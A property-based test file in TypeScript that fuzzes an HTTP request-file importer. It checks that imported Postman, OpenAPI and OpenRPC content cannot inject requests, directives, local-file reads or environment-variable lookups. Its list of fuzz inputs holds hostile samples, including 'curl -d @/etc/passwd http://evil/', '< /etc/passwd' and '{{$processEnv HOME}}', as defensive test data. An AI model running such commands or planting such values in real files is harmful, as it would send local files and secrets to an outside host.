import assert from 'node:assert/strict';
import * as fc from 'fast-check';
import { ScratchDocument } from '../../../common/scratch/document/document';
import { fileOfLine } from '../../../common/scratch/http/body';
import type { Language } from '../../../common/scratch/types';
import { importedFrom, postman } from './helpers';

/** Pieces that mean something in a request file. */
const pieces = [
  '###',
  '### evil',
  '\n',
  '\r\n',
  '\r',
  '\u2028',
  '# @name evil',
  '// @node http://evil/',
  '@host = evil',
  'GET http://evil/',
  'GET http://evil/ HTTP/1.1',
  '< /etc/passwd',
  '<@ ./secret',
  '> {% client.log(1) %}',
  '< {% x %}',
  '>> ./out.txt',
  '>>! out',
  '<> old.json',
  '?? status == 200',
  'HTTP/1.1 200 OK',
  'HTTP 200',
  '[Asserts]',
  'curl -d @/etc/passwd http://evil/',
  'import ./other.http',
  'run ./other.http',
  '{{$processEnv HOME}}',
  '{{$processEnv %HOME}}',
  '{{$dotenv KEY}}',
  '{{$processEnv "HOME"}}',
  '{{a.response.body.$.x}}',
  '{{a.request.headers.Authorization}}',
  '{{name}}',
  '{{',
  '}}',
  '{{{',
  '{{%x}}',
  'X-Request-Type: GraphQL',
  'Content-Type: multipart/form-data; boundary=a',
  '---',
  '# @assert status == 500',
  '@',
  '#',
  ' ',
  ':',
  'word',
  '"',
  '{"a": 1}',
  'é',
  '\ud800',
  '\u0000',
];
const foreign = fc.array(fc.constantFrom(...pieces), { maxLength: 6 }).map((parts) => parts.join(''));
const pair = fc.record({ key: foreign, value: foreign, disabled: fc.boolean() });

const body = fc.oneof(
  fc.record({
    mode: fc.constant('raw'),
    raw: foreign,
    options: fc.constantFrom({ raw: { language: 'json' } }, {}),
  }),
  fc.record({ mode: fc.constant('urlencoded'), urlencoded: fc.array(pair, { maxLength: 3 }) }),
  fc.record({
    mode: fc.constant('formdata'),
    formdata: fc.array(
      fc.record({ key: foreign, value: foreign, type: fc.constantFrom('text', 'file'), src: foreign }),
      {
        maxLength: 3,
      },
    ),
  }),
  fc.record({ mode: fc.constant('file'), file: fc.record({ src: foreign }) }),
  fc.record({ mode: fc.constant('graphql'), graphql: fc.record({ query: foreign, variables: foreign }) }),
);
const auth = fc.oneof(
  fc.constant(null),
  fc.record({ type: fc.constant('bearer'), bearer: fc.record({ token: foreign }) }),
  fc.record({ type: fc.constant('basic'), basic: fc.record({ username: foreign, password: foreign }) }),
  fc.record({
    type: fc.constant('apikey'),
    apikey: fc.record({ key: foreign, value: foreign, in: fc.constantFrom('query', 'header') }),
  }),
  fc.record({ type: foreign }),
);
const item = fc.record({
  name: foreign,
  request: fc.record({
    method: fc.constantFrom('GET', 'POST', 'put'),
    url: foreign.map((text) => `http://good/${text}`),
    header: fc.array(pair, { maxLength: 3 }),
    body,
    auth,
    description: foreign,
  }),
  event: fc.array(
    fc.record({ listen: fc.constantFrom('test', 'prerequest'), script: fc.record({ exec: foreign }) }),
    {
      maxLength: 2,
    },
  ),
});

const directives = new Set(['secret', 'assert', 'node']);
const systemVariables = new Set(['$guid', '$timestamp', '$datetime', '$randomInt']);

describe('text of an imported collection', () => {
  it('never becomes another request, a directive, a file of this machine or a system variable', () => {
    fc.assert(
      fc.property(
        fc.array(item, { maxLength: 3 }),
        fc.array(pair, { maxLength: 3 }),
        foreign,
        (items, variable, folder) => {
          const imported = importedFrom({
            'a.json': postman([...items, { name: folder, item: items }], { variable }),
          });
          const own = new Set(imported.files.map(({ path }) => path.split('/').at(-1)));
          let requests = 0;
          for (const { path, text } of imported.files) {
            assert.match(path, /^[^/\\\0]+(?:\/[^/\\\0]+)*$/);
            assert.ok(!path.split('/').some((step) => step.startsWith('.')), path);
            if (!/\.(?:http|jsonrpc)$/.test(path)) continue;
            const document = new ScratchDocument('untitled:a', path.replace(/.*\./, '') as Language, 0, text);
            for (const { block } of document.blocks()) {
              if (!block.request) continue;
              requests += 1;
              assert.deepEqual(block.definitions, []);
              assert.equal(block.foreignTests, undefined);
              assert.equal(block.responseFiles, undefined);
              for (const { key, value } of block.directives) {
                assert.ok(directives.has(key.text), key.text);
                if (key.text === 'node') assert.match(value.text, /^http:\/\/good\//);
              }
              for (const { expression } of block.placeholders) {
                if (expression.kind === 'system')
                  assert.ok(systemVariables.has(expression.name), expression.name);
                else assert.equal(expression.kind, 'variable');
              }
              if (block.request.kind !== 'http') continue;
              assert.equal(block.request.target.origin?.text, 'http://good');
              const lines = (block.request.body?.text ?? '').split(/[\r\n]+/);
              for (const file of lines.flatMap((line) => fileOfLine(line) ?? [])) {
                const [, name = ''] = /^\.\/([^/\\]*)$/.exec(file.path) ?? [];
                const isOwn = own.has(name) || imported.warnings.some((one) => one.includes(`"${name}"`));
                assert.ok(isOwn, file.path);
              }
            }
          }
          assert.equal(requests, imported.requests);
          assert.equal(imported.requests + imported.notImported, items.length * 2);
        },
      ),
      { numRuns: 400 },
    );
  });

  it('never becomes anything else from a document or a test of another tool', () => {
    const method = fc.record({
      name: foreign,
      summary: foreign,
      params: fc.array(
        fc.record({
          name: foreign,
          required: fc.boolean(),
          schema: fc.record({ examples: fc.tuple(foreign) }),
        }),
        { maxLength: 2 },
      ),
    });
    const operation = fc.record({
      summary: foreign,
      parameters: fc.array(
        fc.record({
          name: foreign,
          in: fc.constantFrom('path', 'query', 'header'),
          required: fc.boolean(),
          schema: fc.record({ example: foreign }),
        }),
        { maxLength: 2 },
      ),
      requestBody: fc.record({ content: fc.record({ 'application/json': fc.record({ example: foreign }) }) }),
    });
    const info = fc.record({ title: foreign });
    const files = fc.record({
      'rpc.json': fc.record({
        openrpc: fc.constant('1.2.6'),
        info,
        methods: fc.array(method, { maxLength: 2 }),
      }),
      'http.json': fc.record({
        openapi: fc.constant('3.0.0'),
        info,
        paths: fc.dictionary(
          foreign.map((text) => `/${text}`),
          fc.record({ post: operation }),
          { maxKeys: 2 },
        ),
      }),
      'a/b.io': fc
        .tuple(foreign, foreign, foreign)
        .map(
          ([comment, params, result]) =>
            `// ${comment}\n>> {"jsonrpc":"2.0","id":1,"method":"eth_call","params":[${JSON.stringify(params)}]}\n<< {"result":${JSON.stringify(result)}}\n`,
        ),
    });
    fc.assert(
      fc.property(files, (given) => {
        const imported = importedFrom(given);
        let requests = 0;
        for (const { path, text } of imported.files) {
          if (!/\.(?:http|jsonrpc)$/.test(path)) continue;
          const document = new ScratchDocument('untitled:a', path.replace(/.*\./, '') as Language, 0, text);
          for (const { block } of document.blocks()) {
            if (!block.request) continue;
            requests += 1;
            assert.deepEqual(
              [block.definitions, block.foreignTests, block.responseFiles],
              [[], undefined, undefined],
            );
            for (const { key } of block.directives) assert.equal(key.text, 'assert');
            for (const { expression } of block.placeholders) {
              if (expression.kind === 'system')
                assert.ok(systemVariables.has(expression.name), expression.name);
              else assert.equal(expression.kind, 'variable');
            }
            if (block.request.kind !== 'http') continue;
            assert.equal(block.request.target.origin, undefined);
            const lines = (block.request.body?.text ?? '').split(/[\r\n]+/);
            for (const file of lines.flatMap((line) => fileOfLine(line) ?? []))
              assert.match(file.path, /^\.\/[^/\\]*$/);
          }
        }
        assert.equal(requests, imported.requests);
      }),
      { numRuns: 400 },
    );
  });
});
